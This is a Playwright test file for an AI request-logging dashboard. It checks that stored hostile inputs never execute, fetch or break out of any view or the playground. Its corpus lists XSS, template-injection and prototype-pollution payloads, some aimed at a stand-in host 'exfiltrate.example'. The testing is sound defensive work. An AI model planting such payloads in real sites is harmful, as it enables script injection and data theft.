import { expect, type Page, test } from '@playwright/test';
import { demo, memberOf, organizationOn, projectIn } from './support/demo.ts';
import { complete } from './support/gateway.ts';
import { signIn } from './support/sign-in.ts';

const organization = organizationOn('pro');
/** Nobody's address: a request for it would be a payload that fetched something. */
const elsewhere = 'https://exfiltrate.example';

/** What has run script, fetched, or broken pages elsewhere. Each one would set `window.pwned`, or ask for `elsewhere`. */
const corpus: Record<string, string> = {
  'script element': '<script>window.pwned = 1</script>',
  'broken-out attribute': `"><img src=x onerror="window.pwned = 1">`,
  'image with a handler': `<img src="${elsewhere}/a.png" onload="window.pwned = 1">`,
  'svg with script': `<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned = 1"><script>window.pwned = 1</script></svg>`,
  'markdown image': `![x](${elsewhere}/?q=secret)`,
  'markdown script link': '[click](javascript:window.pwned=1)',
  iframe: `<iframe srcdoc="<script>parent.pwned = 1</script>" src="${elsewhere}"></iframe>`,
  'style and font': `<style>@import "${elsewhere}/a.css"; body { background: url(${elsewhere}/b.png) }</style>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  'base and form': `<base href="${elsewhere}"><form action="${elsewhere}"><button autofocus onfocus="window.pwned = 1">x</button></form>`,
  'template expression': '{{constructor.constructor("window.pwned = 1")()}}',
  prototype: '{"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 1}}}',
  'end of a script element': '</script><script>window.pwned = 1</script><!--',
  'direction override': '\u202Egnp.exe\u202C and \u2066isolated\u2069',
  'null and lone surrogate': 'a\u0000b \ud800 c',
};

const images = [
  `${elsewhere}/pixel.png`,
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93LnB3bmVkPTEiLz4=',
  'data:text/html,<script>window.pwned=1</script>',
  'javascript:window.pwned=1',
];

/** The same text in every field of a request and of its answer that a page could show. */
function bodyWith(text: string, stream: boolean): object {
  return {
    model: 'simulator/gpt-5-mini',
    stream,
    // A label has to be printable; the gateway refuses any other.
    user: /^[\x20-\x7e]+$/.test(text) ? text : 'cus_8841',
    messages: [
      { role: 'system', name: text, content: text },
      {
        role: 'user',
        content: [
          { type: 'text', text },
          ...images.map((url) => ({ type: 'image_url', image_url: { url } })),
          { type: text, [text]: text },
        ],
      },
      {
        role: 'assistant',
        content: text,
        tool_calls: [{ id: text, type: 'function', function: { name: text, arguments: text } }],
      },
      { role: 'tool', tool_call_id: text, content: text },
    ],
    tools: [
      {
        type: 'function',
        function: { name: 'look_up', description: text, parameters: { type: 'object', title: text } },
      },
    ],
    metadata: { [text.slice(0, 60)]: text },
    simulator: { content: text, reasoning: text, tool_calls: [{ name: text, arguments: text }] },
  };
}

interface Watch {
  readonly complaints: string[];
}

/** Notes every report of the content security policy, every dialog, and every request that leaves the dashboard. */
async function watch(page: Page): Promise<Watch> {
  const complaints: string[] = [];
  await page.exposeFunction('reportViolation', (directive: string) => complaints.push(`policy: ${directive}`));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { reportViolation: (directive: string) => void }).reportViolation(event.violatedDirective);
    });
  });
  page.on('dialog', (dialog) => {
    complaints.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    const isOwn = origin === new URL(demo.dashboardUrl).origin || ['blob:', 'data:'].includes(protocol);
    if (!isOwn) complaints.push(`request: ${request.url()}`);
  });
  page.on('pageerror', (error) => complaints.push(`error: ${error.message}`));
  return { complaints };
}

test('invariant 47: stored payloads never run, fetch or break out, in any field, tab or list', async ({ page }) => {
  test.setTimeout(240_000);
  const { complaints } = await watch(page);
  await signIn(page, memberOf(organization, 'developer'));
  const listPath = `/${new URL(page.url()).pathname.split('/')[1]}/requests`;
  const { apiKey } = projectIn(organization, 'credits');
  let index = 0;
  for (const [name, text] of Object.entries(corpus)) {
    index += 1;
    const { status, requestId } = await complete(apiKey, bodyWith(text, index % 2 === 0), {
      'x-lethe-tags': 'hostile',
      'x-lethe-session-id': `ses_${index}`,
    });
    expect(status, name).toBe(200);
    await page.goto(`${listPath}/${requestId}`);
    await expect(page.getByRole('tab', { name: 'JSON' }), name).toBeVisible();
    for (const tab of ['Conversation', 'JSON', 'Timing', 'Headers', 'Policy']) {
      await page.getByRole('tab', { name: tab }).click();
      await expect(page.getByRole('tabpanel'), `${name} in ${tab}`).toBeVisible();
      expect(await page.evaluate(() => [Reflect.get(window, 'pwned'), Reflect.get({}, 'pwned')]), name).toEqual([
        undefined,
        undefined,
      ]);
    }
    await page.getByRole('tab', { name: 'Conversation' }).click();
    expect(
      await page
        .locator(
          'main script, main iframe, main object, main embed, main form[action^="http"], main a[href^="javascript"], main base, main meta',
        )
        .count(),
      name,
    ).toBe(0);
  }
  await page.goto(listPath);
  await expect(page.locator('a[href*="/requests/"]').first()).toBeVisible();
  expect(complaints).toEqual([]);
});

test('invariant 47: hostile payloads beside each other, and run again in the playground, do nothing either', async ({
  page,
}) => {
  test.setTimeout(180_000);
  const { complaints } = await watch(page);
  await signIn(page, memberOf(organization, 'developer'));
  const path = `/${new URL(page.url()).pathname.split('/')[1]}`;
  const { apiKey } = projectIn(organization, 'credits');
  const everything = Object.values(corpus).join('\n').replaceAll('\u0000', '');
  const [first, second] = [
    await complete(apiKey, bodyWith(everything, false)),
    await complete(apiKey, bodyWith(`${everything} changed`, true)),
  ];
  expect([first.status, second.status]).toEqual([200, 200]);
  await page.goto(`${path}/requests/compare?a=${first.requestId}&b=${second.requestId}`);
  await expect(page.getByTestId('difference')).toContainText('changed');
  await page.goto(`${path}/requests/${first.requestId}?tab=json`);
  await page.getByRole('button', { name: 'Unfold', exact: true }).click();
  await expect(page.getByRole('tree')).toContainText('window.pwned');
  await page.goto(`${path}/playground?from=${second.requestId}`);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByRole('region', { name: 'Answer' })).toContainText('window.pwned', { timeout: 30_000 });
  await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeVisible();
  expect(await page.evaluate(() => [Reflect.get(window, 'pwned'), Reflect.get({}, 'pwned')])).toEqual([
    undefined,
    undefined,
  ]);
  expect(complaints).toEqual([]);
});
